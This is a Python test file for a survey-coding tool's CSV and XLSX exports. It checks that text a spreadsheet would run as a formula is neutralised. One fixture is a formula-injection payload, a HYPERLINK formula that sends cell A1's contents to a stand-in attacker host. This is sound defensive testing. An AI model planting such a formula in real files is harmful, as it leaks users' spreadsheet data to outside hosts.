"""Coding downloads: text a spreadsheet would run is neutralised in CSV (and read back
exactly), stored as strings in XLSX; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

from openpyxl import load_workbook

from teichaku.coding import (
    NO_CODE,
    Code,
    Codebook,
    Coding,
    codebook_to_csv,
    codings_to_csv,
    parse_codebook,
    parse_codings,
)
from teichaku.coding.answers import Answer, answers_to_csv, parse_answers
from teichaku.tabulate.matrix import case_code_matrix

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"詳細")'
BOOK = Codebook(
    "q",
    (
        Code("a", FORMULA, definition="+連携", examples="@例", inclusion="\t字下げ"),
        Code("b", "-その他", exclusion="'引用", parent="a"),
    ),
)
ANSWERS = (
    Answer("r1", "q", "=1+1 と書いた", {"所属": "+81 3 0000"}),
    Answer("r2", "q", "ふつう", {"所属": "-"}),
)


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_codebook_csv_neutralises_and_reads_back_equal() -> None:
    text = codebook_to_csv(BOOK)
    cells = _cells(text)
    for raw in (FORMULA, "+連携", "@例", "\t字下げ", "-その他"):
        assert raw not in cells and "'" + raw in cells
    assert "''引用" in cells
    # white space at either end is trimmed on reading, as it always was
    trimmed = replace(BOOK.codes[0], inclusion="字下げ")
    assert parse_codebook(text, "q") == Codebook("q", (trimmed, BOOK.codes[1]))


def test_codings_csv_neutralises_no_code_and_reads_back_equal() -> None:
    codings = (Coding("r1", "q", "a", "=cmd"), Coding("r2", "q", NO_CODE, "B"))
    text = codings_to_csv(codings)
    assert {"'=cmd", "'-"} <= set(_cells(text))
    read = parse_codings(text)
    assert [(c.response_id, c.code, c.coder) for c in read] == [
        ("r1", "a", "=cmd"),
        ("r2", NO_CODE, "B"),
    ]
    # a hand-written file's "-" is still NO_CODE
    assert parse_codings("response_id,question,code\nr1,q,-\n")[0].code == NO_CODE


def test_answers_csv_reads_back_equal() -> None:
    text = answers_to_csv(ANSWERS)
    assert "'=1+1 と書いた" in _cells(text)
    assert parse_answers(text) == ANSWERS


def test_matrix_csv_and_xlsx() -> None:
    codings = [Coding("r1", "q", "a"), Coding("r2", "q", "b")]
    matrix = case_code_matrix(ANSWERS, codings, BOOK)
    rows = list(csv.reader(io.StringIO(matrix.to_csv())))
    assert rows[1] == ["r1", "'+81 3 0000", "1", "0"]
    assert rows[2] == ["r2", "'-", "0", "1"]
    sheet = load_workbook(io.BytesIO(matrix.to_xlsx())).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    assert {FORMULA, "-その他", "+81 3 0000"} <= texts
    assert [cell.value for cell in sheet[3]][-2:] == [1, 0]  # numbers stay numbers


def test_cells_docstring_examples() -> None:
    import doctest

    from teichaku import cells

    failed, _ = doctest.testmod(cells)
    assert failed == 0
